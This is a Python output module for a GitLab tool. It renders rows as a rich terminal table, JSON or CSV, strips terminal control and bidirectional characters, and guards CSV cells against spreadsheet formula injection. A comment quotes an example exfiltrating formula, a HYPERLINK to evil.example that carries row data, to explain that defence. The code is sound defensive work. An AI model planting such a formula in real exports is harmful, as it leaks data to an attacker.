"""Rendering rows for the terminal and for files: table (rich), JSON, CSV."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

import orjson
from rich.console import Console
from rich.table import Table
from rich.text import Text

FORMATS = ("table", "json", "csv")
# Control characters (terminal escapes) and bidirectional overrides in GitLab strings
# would let a label or title rewrite what the terminal shows; JSON and CSV stay exact.
_UNSAFE_ON_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


# A spreadsheet runs a cell that starts with one of these as a formula: a GitLab title
# such as =HYPERLINK("https://evil.example/?"&B2) would send the row elsewhere when an
# auditor opens the file.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# Spreadsheets in much of Europe split a CSV line at ";" whatever the quotes around it
# meant to a "," reader: each ";" starts a cell there, one a formula could start.
_SPLIT_FORMULA = re.compile(r";(?=[=+\-@\t\r\"])")


def spreadsheet_text(text: str) -> str:
    """``text`` for a CSV cell: with a leading apostrophe when a spreadsheet would read
    it as a formula (OWASP's advice), and one after each ``;`` that a formula (or a
    quote) follows, else unchanged. Numbers never pass through here."""
    if ";" in text:
        text = _SPLIT_FORMULA.sub(";'", text)
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, list | tuple):
        return ", ".join(str(v) for v in value)
    return str(value)


def _csv_cell(value: Any) -> Any:
    if isinstance(value, str | list | tuple):
        return spreadsheet_text(_cell(value))
    return value


def terminal_text(text: str) -> str:
    """``text`` with control characters and direction overrides shown as U+FFFD."""
    return _UNSAFE_ON_TERMINAL.sub("\ufffd", text)


def _terminal_cell(value: Any) -> Text:
    return Text(terminal_text(_cell(value)))


def wide_console() -> Console:
    """A console for tables; piped output gets 160 columns instead of rich's 80."""
    probe = Console()
    return probe if probe.is_terminal else Console(width=160)


def render(
    rows: Iterable[dict[str, Any]],
    fmt: str,
    columns: Sequence[str],
    *,
    title: str | None = None,
    console: Console | None = None,
) -> str | None:
    """Render ``rows``; returns text for json/csv, prints a table itself."""
    items = list(rows)
    if fmt == "json":
        return orjson.dumps(items, option=orjson.OPT_INDENT_2).decode()
    if fmt == "csv":
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=list(columns), extrasaction="ignore")
        writer.writeheader()
        for item in items:
            writer.writerow({c: _csv_cell(item.get(c)) for c in columns})
        return buffer.getvalue()
    table = Table(title=title, show_lines=False)
    for column in columns:
        table.add_column(column, overflow="fold")
    for item in items:
        # Text, not str: a "[bold]" or "[/]" in a title is data, not rich markup.
        table.add_row(*(_terminal_cell(item.get(c)) for c in columns))
    (console or wide_console()).print(table)
    return None
